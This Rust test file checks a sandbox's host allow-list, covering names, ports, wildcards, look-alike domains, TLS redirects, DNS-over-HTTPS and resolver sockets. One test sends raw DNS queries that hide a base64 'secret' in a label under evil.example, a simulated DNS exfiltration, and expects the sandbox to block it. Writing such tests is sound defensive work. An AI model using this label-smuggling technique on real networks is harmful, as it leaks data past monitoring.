//! Names: looked up when the policy has them, connected to where it says.

use crate::lab::{API, API_V6, Lab, OTHER, each, ready};
use crate::world::Outcome;

#[track_caller]
fn works(outcome: &Outcome) {
    assert_eq!((outcome.code(), outcome.stdout.as_str()), (0, "hello\n"), "{}", outcome.stderr);
}

#[track_caller]
fn fails(lab: &Lab, outcome: &Outcome, reason: &str) {
    assert!(outcome.code() != 0 && outcome.stdout.is_empty(), "{:?} {}", outcome.stdout, outcome.stderr);
    assert!(outcome.stderr.contains(reason), "{reason:?} is not in {}", outcome.stderr);
    assert_eq!(lab.taken("requests"), [""; 0], "a request came");
}

#[test]
fn an_allowed_name_is_reached_and_no_other() {
    each(|lab| {
        let only = ["--allow-host", "api.example.com"];
        for url in ["http://api.example.com/", "http://API.Example.COM./", "http://api.example.com:8080/"] {
            works(&lab.curl(&only, url));
        }
        assert_eq!(lab.taken("requests").len(), 3);
        let refused = lab.curl(&only, "http://other.example.org/");
        fails(lab, &refused, "look up other.example.org: no rule covers it");
        assert!(refused.stderr.contains("--allow-host other.example.org"), "{}", refused.stderr);
        for (url, reason) in [
            (format!("http://{API}/"), format!("connect {API}:80: no rule covers it")),
            (format!("http://{OTHER}/"), format!("connect {OTHER}:80: no rule covers it")),
            (format!("http://[{API_V6}]/"), format!("connect [{API_V6}]:80: no rule covers it")),
        ] {
            fails(lab, &lab.curl(&only, &url), &reason);
        }
        assert!(lab.taken("queries").iter().all(|line| line.starts_with("api.example.com ")));
    });
}

#[test]
fn a_port_and_a_family_are_kept_to() {
    each(|lab| {
        let only = ["--allow-host", "api.example.com:8080"];
        works(&lab.curl(&only, "http://api.example.com:8080/"));
        assert_eq!(lab.taken("requests").len(), 1);
        fails(lab, &lab.curl(&only, "http://api.example.com/"), "connect api.example.com:80: no rule covers it");
        let all = ["--allow-host", "*.example.com"];
        for (option, address) in [("-4", API), ("-6", API_V6)] {
            works(&lab.run(&all, &["curl", "-sS", "-m", "15", option, "http://api.example.com/"]));
            let requests = lab.taken("requests");
            assert!(requests.iter().all(|line| line.contains(address)), "{requests:?}");
        }
        for name in ["v4", "v6", "two", "long"] {
            works(&lab.curl(&all, &format!("http://{name}.example.com/")));
        }
    });
}

/// Resolvers send to name servers, and look at the way to each address, where no rule lets a program go: what is answered for
/// them is no refusal.
#[test]
fn a_connection_that_is_allowed_leaves_no_refusal_in_the_log() {
    each(|lab| {
        let last = || {
            let listed = lab.world.finish(lab.verb("audit").arg("list")).stdout;
            listed.lines().last().unwrap_or_default().to_owned()
        };
        works(&lab.curl(&["--allow-host", "api.example.com:80"], "http://api.example.com/"));
        assert!(last().contains("  0 denied  "), "{}", last());
        let id = last().split(' ').next().unwrap_or_default().to_owned();
        let shown = lab.world.finish(lab.verb("audit").args(["show", &id, "--operation", "net"])).stdout;
        for rule in ["[nono answers for name servers]", "[a look at the way to a host", "[allow api.example.com:80]"] {
            assert!(shown.contains(rule), "{rule}: {shown}");
        }
        let refused = lab.curl(&["--allow-host", "api.example.com:8080"], "http://api.example.com/");
        assert_ne!(refused.code(), 0, "{}", refused.stdout);
        assert!(!last().contains("  0 denied  "), "{}", last());
    });
}

#[test]
fn tls_to_an_allowed_name_sees_the_host_s_own_certificate() {
    each(|lab| {
        authority(lab);
        let flags = ["--allow-cwd", "--allow-host", "*.example.com:443"];
        let curl = ["curl", "-sSL", "-m", "15", "--cacert", "authority.pem"];
        works(&lab.run(&flags, &[&curl[..], &["https://api.example.com/"]].concat()));
        lab.taken("requests");
        let led = lab.run(&flags, &[&curl[..], &["https://api.example.com/elsewhere/"]].concat());
        assert_eq!(lab.taken("requests").len(), 1, "one leads elsewhere");
        fails(lab, &led, "look up other.example.org: no rule covers it");
        let both = [&flags[..], &["--allow-host", "other.example.org:443"]].concat();
        works(&lab.run(&both, &[&curl[..], &["https://api.example.com/elsewhere/"]].concat()));
    });
}

#[test]
fn a_wildcard_holds_on_whole_labels_and_not_for_the_name_itself() {
    each(|lab| {
        lab.write(
            "zone",
            "example.com 93.184.215.15\nevil-example.com 93.184.215.15\nexample.com.evil.example 93.184.215.15\n\
            a.b.example.com 93.184.215.14\nxn--exmple-4nf.com 93.184.215.15\na.xn--exmple-4nf.com 93.184.215.15\n",
        );
        let flags = ["--allow-host", "*.example.com"];
        works(&lab.curl(&flags, "http://a.b.example.com/"));
        lab.taken("requests");
        // The last two look like the name of the rule: one letter of theirs is Cyrillic.
        let look_alike = ["xn--exmple-4nf.com", "a.xn--exmple-4nf.com"];
        for name in ["example.com", "evil-example.com", "example.com.evil.example"].into_iter().chain(look_alike) {
            fails(lab, &lab.curl(&flags, &format!("http://{name}/")), &format!("look up {name}"));
        }
        for flag in ["*", "*.com", "*.co.uk", "0.0.0.0/0"] {
            assert_eq!(lab.curl(&["--allow-host", flag], "http://evil.example/").code(), 125, "{flag}");
        }
    });
}

#[test]
fn names_that_are_not_allowed_reach_no_name_server() {
    each(|lab| {
        let secret = "c2VjcmV0IGluIGEgbGFiZWw.evil.example";
        let program = "import socket, struct, sys
def ask(name, kind, server):
    query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0)
    query += b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + struct.pack('>BHH', 0, kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(query, (server, 53))
    reply, sender = s.recvfrom(4096)
    assert sender == (server, 53), sender
    return reply[3] & 15, reply[7]
for kind in (1, 28, 16, 255, 65):
    print(kind, *ask(sys.argv[1], kind, '9.9.9.9'), *ask('api.example.com', kind, '8.8.8.8'))
";
        let outcome = lab.python(&["--allow-host", "api.example.com"], program, &[secret]);
        let expected = "1 3 0 0 1\n28 3 0 0 1\n16 3 0 0 0\n255 3 0 0 0\n65 3 0 0 0\n";
        assert_eq!(outcome.stdout, expected, "{}", outcome.stderr);
        assert!(outcome.stderr.contains(&format!("look up {}", secret.to_lowercase())), "{}", outcome.stderr);
        let queries = lab.taken("queries");
        assert!(!queries.is_empty() && queries.iter().all(|line| line.starts_with("api.example.com ")), "{queries:?}");
    });
}

#[test]
fn names_are_answered_on_streams_with_options_and_in_any_case() {
    each(|lab| {
        let program = r"import socket, struct
def query(name, number, options):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('>6H', number, 0x100, 1, 0, 0, len(options) and 1) + labels + struct.pack('>BHH', 0, 1, 1) + options
def shown(name, number, options, reply):
    end = 12 + len(name) + 2 + 4
    same = reply[:2] == struct.pack('>H', number) and reply[12:end] == query(name, number, options)[12:end]
    address = reply[end + 12:end + 16] if reply[7] else b''
    return same, reply[3] & 15, socket.inet_ntoa(address) if address else '', reply[11]
opt = struct.pack('>BHHIH', 0, 41, 4096, 0, 12) + struct.pack('>HH8s', 10, 8, b'a cookie')
names = [('api.example.com', b''), ('aPi.eXaMple.COM', opt), ('other.example.org', opt)]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(9)
stream = socket.create_connection(('9.9.9.9', 53), 9)
for number, (name, options) in enumerate(names):
    asked = query(name, number, options)
    udp.sendto(asked, ('9.9.9.9', 53))
    print(*shown(name, number, options, udp.recv(4096)))
    stream.sendall(struct.pack('>H', len(asked)) + asked)
    (length,) = struct.unpack('>H', stream.recv(2, socket.MSG_WAITALL))
    print(*shown(name, number, options, stream.recv(length, socket.MSG_WAITALL)))
";
        let outcome = lab.python(&["--allow-host", "api.example.com"], program, &[]);
        let lines: Vec<&str> = outcome.stdout.lines().collect();
        let (plain, with, none) = ("True 0 198.18.1.0 0", "True 0 198.18.1.0 1", "True 3  1");
        assert_eq!(lines, [plain, plain, with, with, none, none], "{}", outcome.stderr);
        let resolver = "import os, socket; print(socket.gethostbyname('api.example.com'))";
        for options in ["use-vc", "edns0", "rotate single-request", "single-request-reopen trust-ad"] {
            let flags = ["--allow-host", "api.example.com", "--env", &format!("RES_OPTIONS={options}")];
            let outcome = lab.python(&flags, resolver, &[]);
            assert_eq!(outcome.stdout, "198.18.1.0\n", "{options}: {}", outcome.stderr);
        }
    });
}

#[test]
fn what_no_name_server_knows_or_says_is_the_resolver_s_own_error() {
    each(|lab| {
        lab.write("resolv.conf", "nameserver 9.9.9.9\noptions timeout:1 attempts:1\n");
        let program = "import socket, sys
try: print(socket.getaddrinfo(sys.argv[1], 80))
except socket.gaierror as error: print(error.errno == getattr(socket, sys.argv[2]), error)
";
        for (name, error) in [("nobody.example.com", "EAI_NONAME"), ("silent.example.com", "EAI_AGAIN")] {
            let outcome = lab.python(&["--allow-host", "*.example.com"], program, &[name, error]);
            assert!(outcome.stdout.starts_with("True"), "{name}: {} {}", outcome.stdout, outcome.stderr);
        }
        let outcome = lab.python(&["--allow-host", "10.0.0.5"], program, &["api.example.com", "EAI_AGAIN"]);
        assert!(outcome.stdout.starts_with("True"), "{} {}", outcome.stdout, outcome.stderr);
    });
}

#[test]
fn the_addresses_that_stand_for_names_are_nothing_by_themselves() {
    each(|lab| {
        let only = ["--allow-host", "api.example.com"];
        for address in ["198.18.1.0", "198.18.0.0", "198.19.255.255", "[fd6e:6f6e:6f00::1:0:0]", "[fd6e:6f6e:6f00::]"] {
            fails(lab, &lab.curl(&only, &format!("http://{address}/")), "is not a public one");
        }
    });
}

#[test]
fn a_resolver_of_the_program_s_own_over_https_is_refused_and_the_account_says_so() {
    each(|lab| {
        authority(lab);
        let get = |rules: &[&str], server: &str| {
            let mut flags = vec!["--allow-cwd", "--allow-host", "api.example.com"];
            rules.iter().for_each(|rule| flags.extend(["--allow-host", rule]));
            let url = format!("https://{server}/dns-query");
            let curl = ["curl", "-sS", "-4", "-m", "15", "--cacert", "authority.pem", "--doh-url", &url];
            lab.run(&flags, &[&curl[..], &["http://api.example.com/"]].concat())
        };
        fails(lab, &get(&[], "other.example.org"), "look up other.example.org: no rule covers it");
        fails(lab, &get(&[], OTHER), &format!("connect {OTHER}:443: no rule covers it"));
        // Where it may ask, the address that it hears is no name of the policy.
        let asked = get(&["other.example.org:443"], "other.example.org");
        let asks = |line: &String| line.ends_with("/dns-query");
        assert_eq!(lab.taken("requests").iter().filter(|line| !asks(line)).count(), 0);
        fails(lab, &asked, &format!("connect {API}:80: no rule covers it"));
        works(&get(&["other.example.org:443", "93.184.215.14:80"], "other.example.org"));
    });
}

#[test]
fn sockets_of_the_system_s_resolvers_stay_out_of_reach() {
    each(|lab| {
        let sockets = ["/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket", "/run/nscd/socket"];
        let mut serving = lab.outside("/bin/sh");
        serving.args(["-c", "mount -t tmpfs none /run; exec /usr/bin/python3 -c \"$0\" \"$@\""]);
        serving.arg(
            "import os, select, socket, sys
open_sockets = []
for path in sys.argv[1:]:
    os.makedirs(os.path.dirname(path))
    open_sockets.append(socket.socket(socket.AF_UNIX))
    open_sockets[-1].bind(path)
    os.chmod(path, 0o666)
    open_sockets[-1].listen()
print('ready', flush=True)
while True:
    for ready in select.select(open_sockets, [], [])[0]: ready.accept()[0].close()",
        );
        let mut server = ready(serving.args(sockets));
        let program = "import socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    print(s.connect_ex(path))
print(socket.gethostbyname('api.example.com').startswith('198.18.'))
";
        let inside = lab.python(&["--allow-host", "api.example.com"], program, &sockets);
        let bare = lab.world.finish(lab.bare("/usr/bin/python3").args(["-c", program]).args(sockets));
        let _ = server.kill();
        let _ = server.wait();
        assert_eq!(inside.stdout, "13\n13\n13\nTrue\n", "{}", inside.stderr);
        assert_eq!(bare.stdout, "0\n0\n0\nFalse\n", "{}", bare.stderr);
    });
}

/// Copies the certificate of the lab's authority to where the program runs.
fn authority(lab: &Lab) {
    let authority = lab.world.work().join("authority.pem");
    std::fs::copy(lab.directory.join("authority.pem"), &authority).expect("a copy");
    lab.world.give(&authority);
}
